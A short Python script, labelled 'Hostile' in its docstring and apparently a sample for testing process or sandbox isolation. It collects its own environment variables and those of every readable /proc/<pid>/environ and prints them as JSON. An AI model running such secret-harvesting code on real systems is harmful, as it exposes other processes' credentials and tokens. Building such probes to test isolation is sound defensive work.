"""Hostile: looks for secrets in its environment and in every /proc/*/environ it can read; prints them all."""

import json
import os

found = {"environ": dict(os.environ), "proc": {}}
for pid in os.listdir("/proc"):
    if pid.isdigit() or pid == "self":
        try:
            with open(f"/proc/{pid}/environ", "rb") as handle:
                found["proc"][pid] = handle.read().decode("utf-8", "replace")
        except OSError as exc:
            found["proc"][pid] = f"{type(exc).__name__}"
print(json.dumps(found))
